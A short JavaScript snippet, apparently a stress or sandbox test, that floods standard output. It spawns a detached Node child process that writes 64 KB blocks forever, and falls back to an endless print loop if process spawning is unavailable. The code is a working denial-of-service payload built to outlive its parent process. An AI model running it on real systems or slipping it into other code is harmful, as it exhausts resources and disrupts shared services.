const child = await mod("node:child_process").catch(() => undefined);
if (!child) while (true) console.log("x".repeat(65535));
child.spawn(process.execPath, ["-e", `const fs = require("fs"); for (;;) try { fs.writeSync(1, "x".repeat(65536)) } catch {}`], { stdio: "inherit", detached: true });
await new Promise((ok) => setTimeout(ok, 60_000));
